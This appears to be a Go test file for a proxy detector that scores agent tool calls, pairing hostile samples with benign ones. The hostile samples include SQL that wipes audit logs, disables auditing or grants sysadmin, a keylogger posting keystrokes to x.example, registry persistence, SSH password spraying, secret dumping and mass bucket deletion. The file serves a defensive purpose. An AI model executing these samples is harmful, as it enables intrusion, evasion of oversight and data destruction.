package detect_test

import (
	"testing"

	"github.com/rulewind/rulewind/proxy/detect"
)

// TestGuardsOfDatabases tells statements that hide who did what, or let somebody in,
// from a database's upkeep.
func TestGuardsOfDatabases(t *testing.T) {
	stmt := func(kind, sql string) wants { return finds(arg("write_query", "query", sql), kind, detect.Medium) }
	for _, tt := range []wants{
		stmt("kill-security", "DELETE FROM app.audit_trail WHERE user_id = 7"),
		stmt("kill-security", "UPDATE login_history SET ip = '192.0.2.1' WHERE user_id = 7"),
		stmt("kill-security", "DROP TRIGGER IF EXISTS audit_orders ON orders"),
		stmt("kill-security", "ALTER SERVER AUDIT [a] WITH (STATE = OFF)"),
		stmt("privilege-change", "EXEC sp_addsrvrolemember 'u', 'sysadmin'"),
		stmt("sql-destructive", "EXEC msdb.dbo.sp_delete_backuphistory '2030-01-01'"),
		stmt("privilege-change", "CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (user 'u')"),
		stmt("sql-destructive", "DROP SERIES FROM cpu"),
		quiet(arg("write_query", "query", "DELETE FROM audit_log WHERE created_at < now() - interval '400 days'"), detect.Low),
		quiet(arg("read_query", "query", "SELECT actor, action FROM audit_log WHERE action = 'delete'"), detect.Low),
		quiet(arg("write_query", "query", "ALTER SERVER AUDIT [a] WITH (STATE = ON)"), detect.Low),
		quiet(arg("write_query", "query", "EXEC sp_addrolemember 'db_datareader', 'u'"), detect.Low),
		quiet(arg("write_query", "query", "DROP TRIGGER set_updated_at ON orders"), detect.Low),
	} {
		tt.run(t, detect.Commands)
	}
}

// TestProgramsOfAdministrators tells what programs do to accounts and machines.
func TestProgramsOfAdministrators(t *testing.T) {
	for _, code := range []string{
		"c.attach_role_policy(RoleName='r', PolicyArn='arn:aws:iam::aws:policy/IAMFullAccess')",
		"await s.putBucketPolicy({Bucket: 'b', Policy: JSON.stringify({Statement: [{Principal: '*'}]})})",
		"for s in v1.list_secret_for_all_namespaces().items: print(s.data)",
		"from pynput import keyboard\nimport requests\ndef f(k): requests.post('https://x.example', data=str(k))",
		"import winreg as r\nk=r.OpenKey(r.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
		"import paramiko\nfor i in range(1,255):\n  c.connect(f'192.0.2.{i}', username='a', password=p)",
		"for b in s3.buckets.all():\n  b.objects.delete()",
	} {
		if got := scoreOf(arg("execute_code", "code", code), detect.Commands, ""); got < detect.Medium {
			t.Errorf("%q: score %d, want Medium", code, got)
		}
	}
	for _, code := range []string{
		"c.list_attached_role_policies(RoleName='r')",
		"c.attach_role_policy(RoleName='r', PolicyArn='arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess')",
		"for p in v1.list_pod_for_all_namespaces().items: print(p.metadata.name)",
		"from pynput import keyboard\nkeyboard.Listener(on_press=print).start()",
		"import paramiko\nc.connect('web-1', username='a', key_filename='k')",
		"for b in s3.buckets.all(): print(b.name)",
	} {
		if got := scoreOf(arg("execute_code", "code", code), detect.Commands, ""); got >= detect.Medium {
			t.Errorf("%q: score %d, want less than Medium", code, got)
		}
	}
}
